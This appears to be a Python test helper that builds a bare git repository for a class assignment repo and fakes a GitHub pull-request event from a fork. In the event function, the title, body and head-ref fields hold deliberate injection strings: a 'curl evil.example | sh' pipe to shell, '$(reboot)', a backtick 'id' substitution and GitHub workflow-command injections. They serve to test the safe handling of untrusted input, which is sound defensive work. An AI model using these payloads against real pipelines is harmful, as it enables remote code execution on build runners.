"""A class's git repository, written without a working tree, so that it can contain anything."""

import json
import os
import subprocess
from pathlib import Path

RIGHT_SOURCE = b"print('a server')\n"


class Entry:
    """A tree entry that is not a regular file: a link or a submodule."""

    def __init__(self, mode: str, data: bytes) -> None:
        self.mode = mode
        self.data = data


def link(target: bytes) -> Entry:
    return Entry("120000", target)


SUBMODULE = Entry("160000", b"")


class ClassRepository:
    """A bare repository, so there are no files that could be read by mistake."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        options = ("--quiet", "--bare", "--initial-branch=main", "--template=")
        self.git("init", *options, str(folder), at=Path("/"))

    def git(self, *arguments: str, data: bytes = b"", at: Path | None = None, **env: str) -> str:
        done = subprocess.run(
            ["git", *arguments],
            cwd=at or self.folder,
            input=data,
            stdout=subprocess.PIPE,
            check=True,
            env={
                "PATH": os.environ["PATH"],
                "GIT_CONFIG_GLOBAL": os.devnull,
                "GIT_CONFIG_NOSYSTEM": "1",
                **env,
            },
        )
        return done.stdout.decode("utf-8", "surrogateescape").strip()

    def commit(
        self,
        changes: dict[str, bytes | Entry | None],
        *parents: str,
        mail: str = "teacher@school.example",
    ) -> str:
        """Commit ``changes`` to the first parent (None deletes the path), and return the commit."""
        who = f"somebody <{mail}> 1700000000 +0800".encode()
        lines = [b"commit refs/latest", b"mark :1", b"author " + who, b"committer " + who]
        lines += [_counted(b"a commit\n")]
        lines += [
            f"{'merge' if n else 'from'} {parent}".encode() for n, parent in enumerate(parents)
        ]
        if not parents:
            lines.insert(0, b"reset refs/latest")
        for path, made in changes.items():
            name = _quoted(path)
            if made is None:
                lines += [b"D " + name]
            elif made is SUBMODULE:
                lines += [b"M 160000 " + b"1" * 40 + b" " + name]
            else:
                entry = made if isinstance(made, Entry) else Entry("100644", made)
                lines += [b"M " + entry.mode.encode() + b" inline " + name, _counted(entry.data)]
        lines += [b"get-mark :1", b""]
        # One process for a commit, and no second one to unpack it.
        options = ("-c", "fastimport.unpackLimit=1", "fast-import", "--quiet", "--force")
        return self.git(*options, data=b"\n".join(lines))

    def point(self, ref: str, commit: str) -> None:
        self.git("update-ref", ref, commit)


def _counted(data: bytes) -> bytes:
    return b"data %d\n" % len(data) + data


def _quoted(path: str) -> bytes:
    escaped = path.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    return f'"{escaped}"'.encode("utf-8", "surrogateescape")


def event(base: str, head: str, *, login: str = "zhang", action: str = "opened") -> dict:
    """An event as GitHub passes it for a pull request from a fork, with hostile text in every
    untrusted field."""
    return {
        "action": action,
        "number": 7,
        "pull_request": {
            "number": 7,
            "title": '"; curl evil.example | sh; echo "::error::x',
            "body": "$(reboot)\n::add-mask::100",
            "user": {"login": login, "type": "User"},
            "base": {"ref": "main", "sha": base, "repo": {"full_name": "school/class"}},
            "head": {"ref": "x`id`", "sha": head, "repo": {"full_name": f"{login}/class"}},
        },
        "repository": {"full_name": "school/class", "default_branch": "main"},
        "sender": {"login": login},
    }


def write_event(file: Path, content: dict) -> Path:
    file.write_text(json.dumps(content), encoding="utf-8")
    return file
